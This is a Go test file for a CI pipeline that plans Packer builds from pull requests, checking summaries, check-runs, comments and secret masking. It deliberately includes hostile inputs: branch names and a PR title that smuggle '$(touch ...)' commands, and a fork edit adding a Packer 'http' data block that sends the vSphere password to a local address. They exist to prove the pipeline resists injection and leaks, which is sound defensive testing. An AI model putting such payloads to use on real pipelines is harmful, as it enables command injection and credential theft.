// SPDX-License-Identifier: Apache-2.0
// Created: 2026-11-23T04:57:51Z
// Spec: openspec/specs/workflows/spec.md#requirement-runners-and-credentials
// Diagram: openspec/specs/workflows/diagram.md#jobs-of-the-images

//go:build pipelines

package pipelines_test

import (
	"errors"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// pull is a pull request.
type pull struct {
	event object
	head  string
	merge string // the commit that GitHub makes of head and base
}

// change makes a branch with an edit; from says which repository it is of.
func (s *site) change(branch string, from int, edit func()) pull {
	s.t.Helper()
	base := s.rev("main")
	s.git("checkout", "-q", "-b", branch, "main")
	edit()
	p := pull{head: s.commit("a change")}
	s.git("checkout", "-q", "--detach", "main")
	s.git("merge", "-q", "--no-ff", "-m", "merge", branch)
	p.merge = s.rev("HEAD")
	p.event = object{
		"action": "synchronize", "number": 7, "sender": object{"id": 4, "login": "mara"},
		"repository": object{"id": 5, "full_name": repo, "default_branch": "main"},
		"pull_request": object{
			"number": 7, "user": object{"id": 4, "login": "mara"}, "title": "::error::title $(touch pwned)",
			"head": object{"sha": p.head, "ref": branch, "repo": object{"id": from, "full_name": repo}},
			"base": object{"sha": base, "ref": "main", "repo": object{"id": 5, "full_name": repo}},
		},
	}
	return p
}

// open makes a pull request the one of the site, with HEAD where GitHub has it.
func (s *site) open(p pull) {
	s.t.Helper()
	s.git("push", "-q", "--force", "origin", p.head+":refs/pull/7/head", p.merge+":refs/pull/7/merge")
	s.git("checkout", "-q", "--detach", p.merge)
}

func TestPullRequest(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	mark := filepath.Join(s.scratch, "pwned")
	first := s.change("$(touch${IFS}"+strings.TrimPrefix(mark, "/")+")", 5, func() {
		s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n")
	})
	second := s.change("second", 5, func() { s.edit("templates/os/linux.pkr.hcl", "playbook_file", "playbok_file") })
	s.github([]string{first.head, second.head})
	s.open(first)
	r := s.act("pull_request", first.event)
	if diff := cmp.Diff(map[string]string{"change": "success", "report": "success"}, r.jobs()); r.code != 0 || diff != "" {
		t.Fatalf("exit code %d, jobs %v\n%s", r.code, r.jobs(), r.log())
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("a name was run as a command")
	}
	for _, want := range []string{"1 of 6 targets to build", "debian-12@vsphere", "vm_memory_mb"} {
		if !strings.Contains(r.summary(), want) {
			t.Errorf("the summary lacks %q:\n%s", want, r.summary())
		}
	}
	s.outputs(r, "change", "change", "plan.json", "findings.sarif")
	if checks := s.hub.Checks(); len(checks) != 1 || checks[0]["conclusion"] != "success" ||
		checks[0]["head_sha"] != first.head {
		t.Errorf("the check-runs are %v", checks)
	}
	if comments := s.hub.Comments(); len(comments) != 1 ||
		!strings.Contains(fmt.Sprint(comments[0]["body"]), "1 of 6 targets to build") {
		t.Errorf("the comments are %v", comments)
	}
	if errors := r.of("error"); len(errors) > 0 {
		t.Errorf("there are annotations: %+v", errors)
	}
	s.noSecret(r)
	// The next commit of the same change has a mistake: the same comment, a check of its own.
	s.open(second)
	r = s.act("pull_request", second.event)
	if comments := s.hub.Comments(); !slices.Equal(r.exits(), []string{"2"}) || len(comments) != 1 ||
		!strings.Contains(fmt.Sprint(comments[0]["body"]), "playbok_file") {
		t.Errorf("exit codes %v, comments %v", r.exits(), comments)
	}
	if checks := s.hub.Checks(); len(checks) != 3 || checks[1]["conclusion"] != "failure" ||
		checks[1]["head_sha"] != second.head || checks[2]["name"] != "packer-hybrid plan example" {
		t.Errorf("the check-runs are %v", checks)
	}
	s.annotated(r, "templates/os/linux.pkr.hcl")
}

// TestPullRequestOfTwoEnvironments changes another environment than the default one, and then both.
func TestPullRequestOfTwoEnvironments(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	other := func() { s.edit("configs/example/debian-12.pkrvars.hcl", "61440", "71680") }
	first := s.change("other", 5, other)
	second := s.change("both", 5, func() {
		other()
		s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n")
	})
	s.github([]string{first.head, second.head})
	for _, c := range []struct {
		pull
		want   []string
		checks map[string]string
	}{
		{
			first,
			[]string{
				"nothing moves, all 6 targets are unchanged", "**Environment** `example`: **1 of 2 targets to build**",
				"vm_disk_size_mb",
			},
			map[string]string{
				"packer-hybrid plan lab": "success", "packer-hybrid plan example": "success",
				"debian-12@vsphere (example)": "success",
			},
		},
		{
			second,
			[]string{"**Environment** `lab`: **1 of 6 targets to build**", "**Environment** `example`: **1 of 2 targets to build**"},
			map[string]string{
				"packer-hybrid plan lab": "success", "packer-hybrid plan example": "success",
				"debian-12@vsphere (example)": "success",
			},
		},
	} {
		s.open(c.pull)
		r := s.act("pull_request", c.event)
		if r.code != 0 {
			t.Fatalf("exit code %d, jobs %v\n%s", r.code, r.jobs(), r.log())
		}
		comments := s.hub.Comments()
		if len(comments) != 1 {
			t.Fatalf("the comments are %v", comments)
		}
		body := fmt.Sprint(comments[0]["body"])
		for _, want := range c.want {
			if !strings.Contains(body, want) || !strings.Contains(r.summary(), want) {
				t.Errorf("comment or summary lacks %q:\n%s", want, body)
			}
		}
		if strings.Contains(body, "0 of ") {
			t.Errorf("the comment says 0:\n%s", body)
		}
		shown := map[string]string{}
		for _, check := range s.hub.Checks() {
			if check["head_sha"] == c.head {
				shown[fmt.Sprint(check["name"])] = fmt.Sprint(check["conclusion"])
			}
		}
		if diff := cmp.Diff(c.checks, shown); diff != "" {
			t.Errorf("check-runs (-want +got):\n%s", diff)
		}
	}
}

// TestFork plans the change of a fork, whose token writes nothing.
func TestFork(t *testing.T) {
	t.Parallel()
	s := newSite(t, nil)
	s.secrets["PKR_VAR_VSPHERE_PASSWORD"] = "a-password-of-a-test"
	good := s.change("good", 6, func() { s.write("configs/lab/debian-12@vsphere.pkrvars.hcl", "vm_memory_mb = 8192\n") })
	evil := s.change("evil", 6, func() {
		s.edit("templates/os/linux.pkr.hcl", "\nbuild {", "\ndata \"http\" \"steal\" {\n  url = "+
			"\"http://127.0.0.1:1/${env(\"PKR_VAR_vsphere_password\")}\"\n}\n\nbuild {")
	})
	s.github([]string{good.head, evil.head}, "checks", "issues") // GitHub's token for forks only reads
	s.open(good)
	r := s.act("pull_request", good.event)
	if r.code != 0 || !strings.Contains(r.summary(), "1 of 6 targets to build") ||
		!strings.Contains(r.summary(), "another repository") {
		t.Errorf("exit code %d, summary:\n%s\n%s", r.code, r.summary(), r.log())
	}
	s.open(evil)
	r = s.act("pull_request", evil.event)
	if r.jobs()["change"] != "failure" || !slices.Equal(r.exits(), []string{"3"}) {
		t.Errorf("exit codes %v, jobs %v\n%s", r.exits(), r.jobs(), r.log())
	}
	s.annotated(r, "templates/os/linux.pkr.hcl")
	if len(s.hub.Checks())+len(s.hub.Comments()) > 0 {
		t.Error("a fork's token wrote something")
	}
	s.noSecret(r)
}

// annotated fails unless there are annotations, all of lines of one file.
func (s *site) annotated(r ran, file string) {
	s.t.Helper()
	all := r.of("error")
	for _, e := range all {
		if e.Pairs["file"] != file || e.Pairs["line"] == "" {
			s.t.Errorf("an annotation is %+v", e)
		}
	}
	if len(all) == 0 {
		s.t.Errorf("nothing is annotated:\n%s", r.log())
	}
}

// outputs fails unless the outputs of a job are the paths of these files, and
// those are kept with the run, in an artifact.
func (s *site) outputs(r ran, job, artifact string, files ...string) {
	s.t.Helper()
	all := map[string]string{}
	for _, e := range r.of("set-output") {
		if e.Job == job && slices.Equal(e.StepID, []string{"images"}) && e.Name != "upload" {
			all[e.Name] = e.Arg
		}
	}
	want := map[string]string{}
	for _, file := range append(files, "answer.json") {
		name, _, _ := strings.Cut(file, ".")
		want[name] = "artifacts/" + file
		if _, err := os.Stat(filepath.Join(s.scratch, "artifacts", artifact, file)); err != nil {
			s.t.Error(err)
		}
	}
	if want["findings"] != "" {
		want["sarif"] = want["findings"]
		delete(want, "findings")
	}
	if diff := cmp.Diff(want, all); diff != "" {
		s.t.Errorf("the outputs (-want +got):\n%s", diff)
	}
}

// noSecret fails when a secret is shown anywhere but in the command that masks
// it, of which act says what it was told.
func (s *site) noSecret(r ran) {
	s.t.Helper()
	shown := map[string]string{
		"the summary": r.summary(), "the log": r.log(),
		"GitHub": fmt.Sprint(s.hub.Comments(), s.hub.Checks()),
	}
	masked := map[string]bool{}
	for _, e := range r.of("add-mask") {
		masked[e.Arg] = true
		if !slices.Contains(slices.Collect(maps.Values(s.secrets)), e.Arg) {
			s.t.Errorf("%q is masked: somebody else's command was obeyed", e.Arg)
		}
	}
	files := 0
	for _, dir := range []string{"state", "artifacts"} {
		err := filepath.WalkDir(filepath.Join(s.scratch, dir), func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				if errors.Is(err, fs.ErrNotExist) {
					return nil
				}
				return err
			}
			text, err := os.ReadFile(path)
			shown[path] = string(text)
			files++
			return err
		})
		if err != nil {
			s.t.Error(err)
		}
	}
	if files == 0 {
		s.t.Error("no file was looked at")
	}
	for name, secret := range s.secrets {
		for where, text := range shown {
			if strings.Contains(text, secret) {
				s.t.Errorf("%s shows %s", where, name)
			}
		}
	}
	// A job that reads what nobody has reviewed has no token that could be masked.
	if _, only := r.jobs()["change"]; masked[jobToken] == (only && len(r.jobs()) == 1) {
		s.t.Errorf("the token is masked: %v", masked[jobToken])
	}
}
